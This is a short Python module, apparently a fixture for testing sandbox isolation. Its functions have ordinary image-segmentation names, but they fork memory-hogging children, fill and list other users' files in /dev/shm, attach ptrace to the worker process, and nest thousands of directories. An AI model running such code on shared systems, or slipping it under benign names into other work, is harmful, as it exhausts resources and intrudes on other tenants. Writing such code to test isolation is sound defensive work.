"""Four ways to hold up or harm others: memory by children, shared memory, a traced worker, an answer without end."""

import ctypes
import mmap
import os
import time
from pathlib import Path

SHARED = Path("/dev/shm")
MARK = "left-@MARK@"


def apply_mask_to_image(image, mask):
    if image.shape != (2, 3, 3):
        raise ValueError("once is enough")
    for _ in range(4):
        if os.fork() == 0:
            block = mmap.mmap(-1, 400 << 20, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
            for start in range(0, 400 << 20, 4096):
                block[start] = 1
            time.sleep(1000)
    time.sleep(1000)


def load_FPN_resnet50():
    found = [path.name for path in SHARED.iterdir() if path.name.startswith("left-")]
    for i in range(20):
        (SHARED / f"{MARK}-{i}").write_bytes(bytes(10 << 20))
    raise ValueError(f"found {len(found)} files of others, ptrace gives {ctypes.CDLL(None).ptrace(0, 0, 0, 0)}")


def applyIoU(model, dataset):
    worker = os.getpid()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            ctypes.CDLL(None).ptrace(16, worker, 0, 0)
            time.sleep(1000)
        os._exit(0)
    time.sleep(1000)


def compare_psp_fpn(test_dataset):
    for _ in range(3000):
        os.mkdir("nested")
        os.chdir("nested")
    return [[] for _ in range(10_000)], [[[]] * 10_000 for _ in range(1000)]
